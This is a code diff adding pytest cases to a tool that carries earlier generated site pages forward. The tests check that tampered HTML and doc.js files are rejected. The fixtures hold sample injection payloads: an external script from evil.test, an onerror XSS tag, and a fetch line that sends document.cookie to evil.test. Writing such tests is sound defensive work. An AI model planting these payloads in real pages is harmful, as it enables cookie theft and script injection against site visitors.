@@ -153,8 +153,11 @@ def test_real_pages_are_carried(sample_site: Path, tmp_path: Path) -> None:
         (b"</head>", b"<script src='https://evil.test/x.js'></script></head>", "loads a script from"),
         (b"script-src 'self'", b"script-src 'self' 'unsafe-inline' https://evil.test", "Content-Security-Policy"),
         (b"<main", b"<img src=x onerror=alert(1)><main", "has a script"),
+        # the scripts liqmap.js loads on demand: BokehJS from static/ and the page's doc.js only
+        (b'"doc.js?v=', b'"https://evil.test/x.js", "doc.js?v=', "loads a script from"),
+        (b'"doc.js?v=', b'"../../data/eth-usdt.json?v=', "loads a script from"),
     ],
-    ids=["inline-script", "external-script", "loose-csp", "event-handler"],
+    ids=["inline-script", "external-script", "loose-csp", "event-handler", "lazy-external", "lazy-other-file"],
 )
 def test_tampered_html_is_not_carried(sample_site: Path, tmp_path: Path, old: bytes, new: bytes, why: str) -> None:
     prev, fresh = _real_prev(sample_site, tmp_path)
@@ -165,6 +168,19 @@ def test_tampered_html_is_not_carried(sample_site: Path, tmp_path: Path, old: by
     merged, carried, not_kept = carry_over(prev, ETH_FAILED, fresh, now=NOW)
     assert carried == [] and why in not_kept["ETH/USDT:USDT"]
     assert "eth-usdt/index.html" not in merged
+
+
+@pytest.mark.parametrize("content", [
+    b'window.liqmapDoc={};fetch("https://evil.test/?"+document.cookie);\n',
+    b'window.liqmapDoc=(fetch("https://evil.test/"),{});\n',
+    b"fetch('https://evil.test/')\n",
+], ids=["appended-code", "code-in-the-value", "no-document"])
+def test_a_tampered_document_file_is_not_carried(prev: Path, content: bytes) -> None:
+    """doc.js runs as script: only the one JSON assignment the renderer writes is carried."""
+    (prev / "eth-usdt" / "24h" / "doc.js").write_bytes(content)
+    merged, carried, not_kept = _carry(prev)
+    assert carried == [] and "eth-usdt/24h/doc.js" in not_kept["ETH/USDT:USDT"]
+    assert not any(k.startswith("eth-usdt/") for k in merged)
 
 
 def test_a_linked_snapshot_is_dropped_not_followed(tmp_path: Path) -> None:
